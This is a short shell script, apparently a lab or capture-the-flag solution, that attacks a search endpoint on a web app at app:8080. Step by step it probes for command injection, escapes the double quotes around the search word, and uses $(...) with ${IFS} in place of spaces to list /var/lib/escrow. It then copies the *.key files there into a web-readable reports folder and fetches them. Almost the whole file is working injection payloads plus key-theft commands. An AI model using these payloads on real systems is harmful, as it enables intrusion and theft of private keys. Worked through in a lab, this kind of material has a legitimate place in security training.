#-- search as one is meant to
search() { curl -s http://app:8080/search --data-urlencode "word=$1" -d day=monday; echo; }
search gate-1
search 'gate-1; id'
#-- a quote breaks the line, so the word stands inside double quotes of a shell
search 'gate-1"'
#-- in double quotes a dollar still works; blanks are written as ${IFS}, output goes where reports lie
search '$(ls${IFS}-R${IFS}/var/lib/escrow>/srv/data/reports/found.txt)'
curl -s http://app:8080/reports/found.txt
#-- read the file
search '$(cat${IFS}/var/lib/escrow/*/*.key>/srv/data/reports/key.txt)'
curl -s http://app:8080/reports/key.txt
